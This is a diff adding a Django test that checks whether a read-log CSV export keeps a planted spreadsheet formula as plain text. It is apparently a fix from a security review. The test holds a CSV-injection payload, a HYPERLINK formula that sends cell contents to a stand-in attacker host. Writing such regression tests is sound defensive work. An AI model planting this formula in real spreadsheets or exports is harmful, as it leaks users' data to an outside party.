@@ -258,3 +258,17 @@ def test_read_log_dates_are_day_first_and_rows_open_only_for_home_affairs(world,
     assert client.get(inspect).status_code == 200
     outsider = _client(UserFactory(username="quantri.khac2"))
     assert outsider.get(inspect).status_code in (302, 403)
+
+
+def test_read_log_export_keeps_a_planted_formula_as_text(home_affairs):
+    """Any signed-in user chooses the query string recorded in the read log; Sở Nội vụ's CSV of
+    the log must not turn it into a formula (security review 2026-11-23 M2)."""
+    planted = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    PersonalDataRead.objects.create(
+        username="hopdong.skhcn.1", kind="explain", format="html", query=planted, path="/x/"
+    )
+    response = _client(home_affairs).get("/admin/personal_data_reads/?export=csv")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    assert "HYPERLINK" in text
+    for field in text.replace('"', "").split(","):
+        assert not field.startswith(("=", "+", "@")), field
